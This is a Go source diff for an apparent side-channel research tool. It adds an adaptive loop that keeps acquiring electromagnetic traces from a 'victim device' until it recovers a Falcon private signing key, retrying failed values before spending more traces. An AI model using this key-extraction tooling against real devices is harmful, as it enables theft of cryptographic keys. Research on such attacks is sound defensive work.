@@ -1,0 +1,118 @@
+package core
+
+import (
+	"fmt"
+
+	"falcondown/internal/emleak"
+	"falcondown/internal/falcon"
+	"falcondown/internal/tracestore"
+)
+
+// Adaptive recovery. A fixed-size campaign either succeeds or it doesn't;
+// with the victim device still on the bench the attacker can do better:
+// run the attack, and when specific values fail their statistics, first
+// retry exactly those values with the maximal candidate beam (cheap —
+// extend passes are shared), and only then pay for more traces. Because
+// observation i is derived deterministically from (seed, i), growing the
+// campaign extends the previous one rather than replacing it, so no
+// measurement is ever wasted.
+
+// AutoOptions tunes the adaptive trace-budget loop of AutoRecover.
+type AutoOptions struct {
+	// InitialTraces is the campaign size of the first attempt
+	// (default 500).
+	InitialTraces int
+	// MaxTraces is the total trace budget; acquisition never exceeds it
+	// (default 8× InitialTraces).
+	MaxTraces int
+	// Growth multiplies the campaign size between attempts (default 2).
+	Growth float64
+	// OnAttempt, when set, is called after each full attack attempt with
+	// the campaign size used and the attempt's outcome (nil on success).
+	OnAttempt func(traces int, err error)
+}
+
+func (o AutoOptions) withDefaults() AutoOptions {
+	if o.InitialTraces <= 0 {
+		o.InitialTraces = 500
+	}
+	if o.MaxTraces <= 0 {
+		o.MaxTraces = 8 * o.InitialTraces
+	}
+	if o.MaxTraces < o.InitialTraces {
+		o.MaxTraces = o.InitialTraces
+	}
+	if o.Growth <= 1 {
+		o.Growth = 2
+	}
+	return o
+}
+
+// AutoRecover runs the full key extraction with an adaptive trace budget
+// against a live device. Each round acquires traces up to the current
+// campaign size (observation i is regenerated deterministically from
+// (seed, i), so earlier measurements are reused bit-identically), runs
+// the attack, and on an implausible key retries the per-value failures
+// with the maximal beam before escalating to more traces. When the budget
+// is exhausted the partial RecoveryReport diagnoses exactly which of the
+// 2·(n/2) values failed and why (RecoveryReport.Failed).
+func AutoRecover(dev *emleak.Device, seed uint64, pub *falcon.PublicKey, cfg Config, opts AutoOptions) (*falcon.PrivateKey, *RecoveryReport, error) {
+	opts = opts.withDefaults()
+	cfg = cfg.withDefaults()
+	n := dev.N()
+
+	obs := make([]emleak.Observation, 0, opts.MaxTraces)
+	target := opts.InitialTraces
+	if target > opts.MaxTraces {
+		target = opts.MaxTraces
+	}
+	var lastReport *RecoveryReport
+	var lastErr error
+	for {
+		for len(obs) < target {
+			o, err := emleak.ObservationAt(dev, seed, uint64(len(obs)))
+			if err != nil {
+				return nil, lastReport, fmt.Errorf("core: auto recovery: acquiring observation %d: %w", len(obs), err)
+			}
+			obs = append(obs, o)
+		}
+		src := tracestore.NewSliceSource(n, obs)
+
+		fFFT, values, err := AttackFFTfFrom(src, cfg)
+		if err != nil {
+			return nil, lastReport, err
+		}
+		priv, report, err := finishRecovery(fFFT, values, pub, cfg)
+		if err != nil && len(report.Failed) > 0 {
+			// Escalated per-value retry: re-attack exactly the diagnosed
+			// values with the maximal beam before buying more traces.
+			var idxs []int
+			for _, f := range report.Failed {
+				idxs = append(idxs, f.Index)
+			}
+			improved, rerr := retryMaxBeam(src, cfg, fFFT, values, idxs)
+			if rerr != nil {
+				return nil, report, rerr
+			}
+			if len(improved) > 0 {
+				priv, report, err = finishRecovery(fFFT, values, pub, cfg)
+			}
+		}
+		if opts.OnAttempt != nil {
+			opts.OnAttempt(target, err)
+		}
+		if err == nil {
+			return priv, report, nil
+		}
+		lastReport, lastErr = report, err
+
+		if target >= opts.MaxTraces {
+			return nil, lastReport, fmt.Errorf("core: auto recovery failed after exhausting the %d-trace budget (%d value(s) diagnosed): %w",
+				opts.MaxTraces, len(lastReport.Failed), lastErr)
+		}
+		target = int(float64(target) * opts.Growth)
+		if target > opts.MaxTraces {
+			target = opts.MaxTraces
+		}
+	}
+}
